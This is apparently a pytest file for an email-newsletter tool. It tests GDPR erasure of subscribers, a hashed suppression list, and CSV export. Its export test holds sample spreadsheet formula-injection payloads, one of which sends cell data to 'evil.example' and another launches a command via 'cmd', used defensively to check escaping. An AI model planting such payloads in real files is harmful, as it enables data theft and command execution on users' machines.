"""`subscribers forget` (GDPR article 17) and the suppression list, and the
spreadsheet-safe export, through the real command line and Postgres."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import uuid

import pytest
from click.testing import CliRunner

from amazonsender import cli, events, store
from tests.support.db import add_mailout, add_subscribers, ledger, mailout_row
from tests.support.settings import UNSUBSCRIBE_SECRET
from tests.support.sending import claim_and_queue, take_rows

OTHER_SECRET = "another-secret-for-the-suppression-list"


@pytest.fixture
def run(database_url):
    """`python -m amazonsender ...` with only what the subscribers commands
    need: DATABASE_URL, and the secrets a test passes."""

    def run(*args, unsubscribe_secret=UNSUBSCRIBE_SECRET, suppression_secret=None):
        env = {
            "PYTHON_DOTENV_DISABLED": "1",
            "APP_ENV": "production",
            "DATABASE_URL": database_url,
            "UNSUBSCRIBE_SECRET": unsubscribe_secret,
            "SUPPRESSION_SECRET": suppression_secret,
        }
        return CliRunner().invoke(cli.main, [str(a) for a in args], env=env, catch_exceptions=False)

    return run


def everything(conn) -> str:
    """Every row of every table in the schema, as text."""
    tables = [row["relname"] for row in conn.execute(
        "SELECT relname FROM pg_class WHERE relnamespace = 'public'::regnamespace AND relkind = 'r'"
    )]
    return "\n".join(
        row["t"] for table in tables for row in conn.execute(f'SELECT t::text AS t FROM "{table}" AS t')
    )


def ses_event(conn, event_type: str, address: str, name: str, ses_message_id: str, mailout_id) -> None:
    """An SES event as SNS delivers it, recorded and applied by the service's
    own code. Its payload holds the address three ways and the name in the
    email's headers."""
    mail = {
        "messageId": ses_message_id,
        "source": "news@example.test",
        "destination": [address],
        "tags": {"mailout_id": [str(mailout_id)]},
        "headers": [{"name": "To", "value": f"{name} <{address}>"}],
        "commonHeaders": {"to": [f"{name} <{address}>"], "subject": "Our news"},
    }
    if event_type == "Bounce":
        body = {"notificationType": "Bounce", "mail": mail, "bounce": {
            "bounceType": "Permanent", "bounceSubType": "General", "feedbackId": f"fb-{ses_message_id}",
            "bouncedRecipients": [{"emailAddress": address.upper(),
                                   "diagnosticCode": f"smtp; 550 5.1.1 <{address}>: no such user"}]}}
    else:
        body = {"notificationType": "Delivery", "mail": mail, "delivery": {"recipients": [address]}}
    events.process_notification(
        conn, {"MessageId": str(uuid.uuid4()), "Type": "Notification", "Message": json.dumps(body)}
    )


@pytest.fixture
def history(conn):
    """Ann and Bo got two mailouts; SES reported a delivery to Ann in the
    first and a bounce from Ann in the second."""
    ann, bo = add_subscribers(conn, ["Ann.Smith@list.example", "bo@list.example"],
                              names={"Ann.Smith@list.example": "Annabel Smithers"})
    mailouts = [add_mailout(conn, status="sent"), add_mailout(conn, status="sent")]
    for n, mailout_id in enumerate(mailouts):
        for subscriber_id, address, who in ((ann, "Ann.Smith@list.example", "ann"), (bo, "bo@list.example", "bo")):
            conn.execute(
                "INSERT INTO send_logs (mailout_id, subscriber_id, email, status, ses_message_id, error_message)"
                " VALUES (%s, %s, %s, 'sent', %s, %s)",
                (mailout_id, subscriber_id, address, f"ses-{n}-{who}", f"note about {address}"),
            )
    ses_event(conn, "Delivery", "Ann.Smith@list.example", "Annabel Smithers", "ses-0-ann",
              mailouts[0])
    ses_event(conn, "Bounce", "ann.smith@list.example", "Annabel Smithers", "ses-1-ann",
              mailouts[1])
    ses_event(conn, "Delivery", "bo@list.example", "Bo", "ses-1-bo", mailouts[1])
    return mailouts


def counts(conn, mailouts) -> list:
    return [(store.count_by_status(conn, m), dict(store.reputation(conn, m))) for m in mailouts]


def test_forget_erases_the_address_and_name_everywhere_and_keeps_the_history(run, conn, history):
    before = counts(conn, history)
    assert "annabel" in everything(conn).lower() and "ann.smith" in everything(conn).lower()

    result = run("subscribers", "forget", "ANN.SMITH@list.example")

    assert result.exit_code == 0, result.output
    assert "Ann.Smith@list.example removed, 2 ledger rows and 2 SES events anonymised" in result.output
    assert "added to the suppression list" in result.output
    text = everything(conn).lower()
    assert "ann.smith" not in text and "annabel" not in text and "smithers" not in text
    assert "bo@list.example" in text  # nobody else is touched
    assert counts(conn, history) == before
    expected = hmac.new(
        hmac.new(UNSUBSCRIBE_SECRET.encode(), b"amazonsender suppression list v1", hashlib.sha256).digest(),
        b"ann.smith@list.example", hashlib.sha256,
    ).digest()
    token = "forgotten:" + expected.hex()[:16]
    for mailout_id in history:
        assert ledger(conn, mailout_id) == {token: "sent" if mailout_id == history[1] else "delivered",
                                            "bo@list.example": "sent" if mailout_id == history[0] else "delivered"}
    rows = conn.execute("SELECT address_hash FROM suppressions").fetchall()
    assert [bytes(row["address_hash"]) for row in rows] == [expected]
    events_rows = conn.execute("SELECT addresses, payload FROM ses_events WHERE %s = ANY(addresses)",
                               (token,)).fetchall()
    assert len(events_rows) == 2 and all("headers" not in row["payload"]["mail"] for row in events_rows)

    again = run("subscribers", "forget", "ann.smith@list.example")
    assert again.exit_code == 0, again.output
    assert "no subscriber removed, 0 ledger rows and 0 SES events" in again.output
    assert "on the suppression list already" in again.output
    assert conn.execute("SELECT count(*) AS n FROM suppressions").fetchone()["n"] == 1


def test_an_erased_address_is_never_imported_again_nor_sent_to(run, conn, history, tmp_path):
    assert run("subscribers", "forget", "Ann.Smith@list.example").exit_code == 0
    path = tmp_path / "old.csv"
    path.write_text("email,name\nann.smith@LIST.example,Annabel\nnew@list.example,New\n")

    result = run("subscribers", "import", path)

    assert result.exit_code == 0, result.output
    assert "added 1, already there 0, suppressed 1" in result.output
    emails = {row["email"] for row in conn.execute("SELECT email FROM subscribers")}
    assert emails == {"bo@list.example", "new@list.example"}
    mailout_id = add_mailout(conn)
    claim = claim_and_queue(sender_pool := _pool(conn), mailout_id)
    sender_pool.close()
    assert claim.recipients == 2
    assert set(ledger(conn, mailout_id)) == {"bo@list.example", "new@list.example"}


def _pool(conn):
    from amazonsender import db

    pool = db.create_pool(conn.info.dsn, max_size=2)
    pool.wait(timeout=10)
    return pool


def test_an_address_never_on_the_list_can_be_suppressed(run, conn, tmp_path):
    result = run("subscribers", "forget", "stranger@list.example")
    assert result.exit_code == 0, result.output
    assert "no subscriber removed" in result.output and "added to the suppression list" in result.output
    path = tmp_path / "list.csv"
    path.write_text("email\nStranger@List.Example\n")
    assert "added 0, already there 0, suppressed 1" in run("subscribers", "import", path).output


def test_a_queued_recipient_who_is_forgotten_mid_mailout_is_skipped(run, conn):
    add_subscribers(conn, ["ann@list.example", "bo@list.example"])
    mailout_id = add_mailout(conn)
    pool = _pool(conn)
    try:
        claim_and_queue(pool, mailout_id)
        assert run("subscribers", "forget", "ann@list.example").exit_code == 0
        with pool.connection() as c:
            recipients, skipped = take_rows(c, mailout_id, 10)
    finally:
        pool.close()
    assert [r.email for r in recipients] == ["bo@list.example"] and skipped == 1
    statuses = ledger(conn, mailout_id)
    assert statuses.pop("bo@list.example") == "sending"
    [(token, status)] = statuses.items()
    assert token.startswith("forgotten:") and status == "skipped"


def test_the_suppression_list_needs_its_own_key(run, conn, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("email\nann@list.example\nbo@list.example\n")
    assert run("subscribers", "forget", "ann@list.example", suppression_secret=OTHER_SECRET).exit_code == 0

    without = run("subscribers", "import", path, unsubscribe_secret=None)
    other = run("subscribers", "import", path)  # UNSUBSCRIBE_SECRET: not the key the list was made with
    forget_other = run("subscribers", "forget", "bo@list.example")
    no_key = run("subscribers", "forget", "bo@list.example", unsubscribe_secret=None)

    assert without.exit_code == 1 and "set SUPPRESSION_SECRET" in without.output
    assert other.exit_code == 1 and "made with another key" in other.output
    assert forget_other.exit_code == 1 and "nothing was erased" in forget_other.output
    assert no_key.exit_code == 1 and "needs a key" in no_key.output
    assert conn.execute("SELECT count(*) AS n FROM subscribers").fetchone()["n"] == 0
    right = run("subscribers", "import", path, suppression_secret=OTHER_SECRET)
    assert "added 1, already there 0, suppressed 1" in right.output


def test_import_needs_no_key_while_the_suppression_list_is_empty(run, conn, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text("email\nann@list.example\n")
    result = run("subscribers", "import", path, unsubscribe_secret=None)
    assert result.exit_code == 0 and "added 1" in result.output


# --- spreadsheet-safe export --------------------------------------------------

FORMULA_NAMES = {
    "a@list.example": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "b@list.example": "+1+1",
    "c@list.example": "-2+3",
    "d@list.example": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e@list.example": "'=already quoted",
    "f@list.example": "Plain Name",
    "-dash@list.example": "-",
    "+plus@list.example": "+",
    "=eq@list.example": None,
    "'quote@list.example": "O'Brien",
}


def test_export_writes_no_formula_and_imports_back_as_it_was(run, conn, tmp_path):
    add_subscribers(conn, list(FORMULA_NAMES), names=FORMULA_NAMES)

    exported = run("subscribers", "export")

    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO(exported.output)))
    assert rows[0] == ["email", "name", "status", "status_updated_at", "created_at"]
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row
    by_email = {row[0]: row[1] for row in rows[1:]}
    assert by_email["a@list.example"] == "'" + FORMULA_NAMES["a@list.example"]
    assert by_email["'-dash@list.example"] == "'-"
    assert by_email["e@list.example"] == "''=already quoted"
    assert by_email["'quote@list.example"] == "O'Brien"  # an apostrophe before anything else stays as it is
    help_text = run("subscribers", "export", "--help").output
    assert "apostrophe" in help_text and "formula" in help_text

    conn.execute("DELETE FROM subscribers")
    path = tmp_path / "exported.csv"
    path.write_text(exported.output)
    imported = run("subscribers", "import", path)
    assert imported.exit_code == 0, imported.output
    assert f"added {len(FORMULA_NAMES)}," in imported.output
    rows = {row["email"]: row["from_name"] for row in conn.execute("SELECT email, from_name FROM subscribers")}
    assert rows == FORMULA_NAMES


# --- names and addresses in error texts; every spelling of a domain -------------


def test_forget_erases_the_name_and_address_from_ledger_and_mailout_errors(run, conn):
    ann, bea, al = "Ann.Z@List.Example", "bea.example@example.org", "al@list.example"
    add_subscribers(conn, [ann, bea, al, "bo@list.example"],
                    names={ann: "Ann Zyxwvut", bea: "Bea Qwertzuio", al: "Al"})
    first, second, other = add_mailout(conn, status="sent"), add_mailout(conn, status="failed"), add_mailout(conn)
    rows = [
        (first, ann, "MessageRejected: Email address is not verified: ann zyxwvut <ANN.Z@list.example>"),
        (second, bea, "MessageRejected: rejected: Bea Qwertzuio <bea.example@example.org>"),
        (first, al, "MessageRejected: Al <al@list.example> Annual report"),
        (first, "bo@list.example", "batch failed after Ann.Z@list.example and bea.example@EXAMPLE.org"),
    ]
    for mailout_id, address, error in rows:
        conn.execute("INSERT INTO send_logs (mailout_id, email, status, error_message) VALUES (%s, %s, 'failed', %s)",
                     (mailout_id, address, error))
    for mailout_id, error in (
        (second, "last: MessageRejected: rejected: Bea Qwertzuio <bea.example@example.org>"),
        (first, "last: MessageRejected: ANN ZYXWVUT <Ann.Z@List.Example>"),
        (other, "Bea Qwertzuio is also the name of an unrelated mailout"),
    ):
        conn.execute("UPDATE mailouts SET error = %s WHERE id = %s", (error, mailout_id))

    for address in ("ann.z@list.example", "Bea.Example@Example.org", "al@list.example"):
        result = run("subscribers", "forget", address)
        assert result.exit_code == 0, result.output

    text = everything(conn).lower()
    for gone in ("zyxwvut", "ann.z@", "bea.example@", "al@list"):
        assert gone not in text
    errors = {row["email"]: row["error_message"] for row in conn.execute("SELECT email, error_message FROM send_logs")}
    # The name in Bea's own mailout went; another mailout's text is not hers.
    assert "qwertzuio" not in mailout_row(conn, second)["error"].lower()
    assert mailout_row(conn, other)["error"] == "Bea Qwertzuio is also the name of an unrelated mailout"
    # A name under 3 characters stays: "Al" would blank out every "al" word.
    [al_error] = [e for email, e in errors.items() if "Annual" in e]
    assert al_error.startswith("MessageRejected: Al <forgotten:") and al_error.endswith("> Annual report")
    assert errors["bo@list.example"].startswith("batch failed after forgotten:")


@pytest.mark.parametrize("stored, typed", [
    ("leg@bücher.de", "leg@xn--bcher-kva.de"),
    ("leg@bücher.de", "LEG@XN--BCHER-KVA.DE"),
    ("leg@xn--bcher-kva.de", "Leg@Bücher.de"),
    ("leg@Bücher.de", "leg@bücher.de"),
])
def test_forget_matches_the_unicode_and_the_idna_spelling_of_a_domain(run, conn, stored, typed):
    add_subscribers(conn, [stored, "bo@list.example"], names={stored: "Legolas Grünblatt"})
    old = add_mailout(conn, status="sent")
    conn.execute("INSERT INTO send_logs (mailout_id, email, status, error_message) VALUES (%s, %s, 'failed', %s)",
                 (old, stored, f"MessageRejected: Legolas Grünblatt <{stored}>"))

    result = run("subscribers", "forget", typed)

    assert result.exit_code == 0, result.output
    assert f"{stored} removed, 1 ledger rows" in result.output
    text = everything(conn).lower()
    assert "leg@" not in text and "grünblatt" not in text
    mailout_id = add_mailout(conn)
    pool = _pool(conn)
    try:
        assert claim_and_queue(pool, mailout_id).recipients == 1
    finally:
        pool.close()
    assert set(ledger(conn, mailout_id)) == {"bo@list.example"}
